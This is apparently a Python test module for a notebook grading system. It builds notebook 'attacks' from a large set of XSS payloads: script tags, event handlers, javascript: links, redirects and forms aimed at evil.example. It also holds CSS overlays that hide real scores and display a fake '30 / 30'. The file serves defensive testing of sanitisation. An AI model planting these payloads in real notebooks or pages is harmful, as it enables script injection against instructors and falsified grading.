"""What would run in the instructor's formgrader or on the feedback page, call home, or cover the points."""

# ruff: noqa: E501 - code and markup of attacks are data: wrapped, they would be others

from tests.attacks.attack import Attack, cell, markdown_cell
from tests.attacks.families.objects import _third

_BAD = (
    "<script>alert('m')</script><img src=x onerror=\"alert('m')\"><svg onload=alert(1)><animate onbegin=alert(1)></svg>"
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data='data:text/html,x'></object><embed src='//evil.example'>"
    "<a href='javascript:alert(1)'>x</a><a href='&#106;avascript:alert(1)'>y</a><form action='//evil.example'><input autofocus onfocus=alert(1)></form>"
    "<details open ontoggle=alert(1)></details><video><source onerror=alert(1)></video><base href='//evil.example/'>"
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href='//evil.example/x.css'>"
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><template><script>alert(1)</script></template>"
)
_STYLE = (
    "<style>* { display: none } .score::after { content: '30 / 30' }</style>"
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(//evil.example/p.png)'>30 / 30</div>"
    "<div class='navbar navbar-fixed-top modal' style='position: absolute; margin: -9999px'>Score: 30</div><font size=99>"
)
_MATH = r"$\href{javascript:alert(1)}{x}$ $$\unicode{<img src=x onerror=alert(1)>}$$ $\require{html}\style{position:fixed}{x}$ [x](javascript:alert(1)) ![x](x\"onerror=alert(1)) <javascript:alert(1)>"
_MIMES = f"""
from IPython.display import publish_display_data
bad = {_BAD!r}
for mime in ("text/html", "image/svg+xml", "application/javascript", "text/markdown", "text/latex", "application/json", "text/x-y",
             "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "application/pdf", "text/plain",
             "image/png", "image/jpeg", "application/vnd.vega.v5+json", "text/html; charset=x", 'x"><script>alert(1)</script>/y'):
    publish_display_data({{mime: '"><script>alert(1)</script>' if mime.startswith("image/") else bad}}, metadata={{mime: {{"width": '1" onload="alert(1)'}}}})
publish_display_data({{"image/png": "AAAA", "text/plain": "x"}}, metadata={{"width": '1" onerror="alert(1)', "image/png": {{"alt": '" onerror="alert(1)', "height": "x'><script>"}}}})
"""
_ERRORS = f"""
import sys, warnings
warnings.warn({_BAD!r})
print({_BAD!r}, file=sys.stderr)
print("\\x1b]8;;javascript:alert(1)\\x07x\\x1b[31m</pre><script>alert(1)</script>")
raise type("<img src=x onerror=alert(1)>", (Exception,), {{}})({_BAD!r})
"""
_ANSWER = f"group_c = {{card: {{'decision': {_BAD!r}, 'basis': {_STYLE!r}}} for card in cards}} | {{{_BAD!r}: {{{_BAD!r}: {_BAD!r}}}}}"
_WIDGET = """
import ipywidgets
display(ipywidgets.HTML("<img src=x onerror=alert(1)>"), ipywidgets.Button(description="<script>"))
from IPython.display import HTML, Javascript, IFrame, SVG
display(HTML("<script>alert(1)</script>"), Javascript("alert(1)"), IFrame("javascript:alert(1)", 1, 1), SVG(data="<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"))
"""


def _texts(*sources: str):
    def spoil(notebook):
        for number, source in enumerate(sources):
            notebook["cells"].insert(number, markdown_cell(source, f"words-{number}"))
        return notebook

    return spoil


def _attachments(notebook):
    words = markdown_cell("![x](attachment:x.svg) ![y](attachment:<img src=x onerror=alert(1)>)", "attached")
    words["attachments"] = {"x.svg": {"image/svg+xml": _BAD}, "<img src=x onerror=alert(1)>": {"text/html": _BAD}}
    raw = {
        "cell_type": "raw",
        "id": "raw",
        "metadata": {"format": "text/html", "raw_mimetype": "text/html"},
        "source": _BAD,
    }
    notebook["cells"] += [words, raw]
    return notebook


def _source(notebook):
    """Markup in code and in a comment that formgrader shows beside the answer."""
    cell(notebook, "cards-a-answer")["source"] += f"\n# {_BAD}\n# </pre></div>{_STYLE}\n"
    return notebook


def _names(notebook):
    for number, found in enumerate(c for c in notebook["cells"] if "nbgrader" not in c["metadata"]):
        found["id"] = f'{number}"><script>alert(1)</script>'
        found["metadata"] = {
            "name": _BAD,
            "tags": [_BAD, "remove_cell", "hide-input"],
            "collapsed": True,
            "slideshow": {"slide_type": _BAD},
        }
    notebook["metadata"] |= {
        "title": _BAD,
        "language_info": {"name": 'x"><script>alert(1)</script>', "pygments_lexer": _BAD},
    }
    return notebook


FAMILY = [
    Attack(
        "markup-texts",
        "scripts, handlers, frames, forms in texts",
        spoil=_texts(_BAD, _BAD.upper(), f"**x**\n\n{_BAD}\n"),
    ),
    Attack(
        "markup-styles",
        "styles that hide the points or draw others over them",
        spoil=_texts(_STYLE),
        code=f"from IPython.display import HTML\ndisplay(HTML({_STYLE!r}))",
    ),
    Attack("markup-formulas", "scripts in formulas and links", spoil=_texts(_MATH)),
    Attack("markup-outputs", "every type of output with markup", _MIMES),
    Attack("markup-errors", "markup in an error's name, text and warnings", _ERRORS),
    Attack("markup-answers", "markup as an answer", answers=_third(_ANSWER)),
    Attack("markup-widgets", "widgets, frames, scripts by IPython", _WIDGET),
    Attack("markup-attachments", "pictures and raw cells with scripts", spoil=_attachments),
    Attack("markup-source", "markup in comments", spoil=_source),
    Attack("markup-names", "markup in ids, tags, titles, languages", spoil=_names),
]
